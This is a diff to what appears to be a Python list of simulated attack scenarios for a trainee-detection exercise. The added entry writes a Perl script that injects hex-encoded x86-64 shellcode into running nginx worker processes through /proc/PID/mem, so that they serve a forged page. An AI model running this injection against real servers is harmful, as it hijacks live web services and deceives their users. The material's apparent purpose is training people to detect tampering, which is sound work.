@@ -80,6 +80,25 @@ END
 setsid perl /root/swap.pl >/dev/null 2>&1 </dev/null &
 """
 
+_WRITTEN_INTO = r"""cat >/root/write.pl <<'END'
+my ($pid, $inode, $text) = @ARGV;
+my ($socket) = grep { readlink("/proc/$pid/fd/$_") eq "socket:[$inode]" } 0 .. 99;
+open(my $call, "<", "/proc/$pid/syscall") or die; my $next = hex((split " ", <$call>)[-1]);
+my $page = "HTTP/1.0 200 OK\r\nX-Served-By: app1\r\n\r\n<p>$text</p>";
+my $code = pack("H*", "bf") . pack("V", $socket)
+  . pack("H*", "31f631d26a2b580f0585c079076a18580f05ebe789c389c7488db42400e0ffffba0010000031c00f0589df488d3513000000ba")
+  . pack("V", length $page) . pack("H*", "6a01580f0589df6a03580f05ebb6");
+open(my $memory, "+<:raw", "/proc/$pid/mem") or die "memory: $!"; sysseek($memory, $next, 0);
+syswrite($memory, $code . $page) or die "memory: $!";
+END
+chmod 711 /root; chmod 644 /root/write.pl
+inode=$(ss -Hltne 'sport = :80' | sed -n 's/.* ino:\([0-9]*\).*/\1/p')
+for p in $(pgrep -u www-data -x nginx); do runuser -u www-data -- perl /root/write.pl $p $inode "%s"; done
+curl -s --max-time 10 http://127.0.0.1/ | grep -q Assam
+"""
+"""A page that nginx's own processes show by code of the trainee's: the accept, read, write and close of x86-64, where
+each of them waits."""
+
 ATTACKS: tuple[Attack, ...] = (
     Attack("a page shown by curl", GATEWAY, "pc1", *instead("/usr/bin/curl", PAGE)),
     Attack(
@@ -107,6 +126,10 @@ ATTACKS: tuple[Attack, ...] = (
     Attack(
         "a site that answers only the observer", GATEWAY, "web1",
         FAKE_SITE + f'systemctl stop nginx; fake nginx 80 "{CATALOGUE}" 200', GONE + "; systemctl start nginx",
+    ),
+    Attack(
+        "code written into nginx's memory", GATEWAY, "web1", _WRITTEN_INTO % CATALOGUE,
+        "chmod 700 /root; rm /root/write.pl; systemctl restart nginx", "altered in memory",
     ),
     Attack(
         "nginx shows a page from before the fault", GATEWAY, "web1",
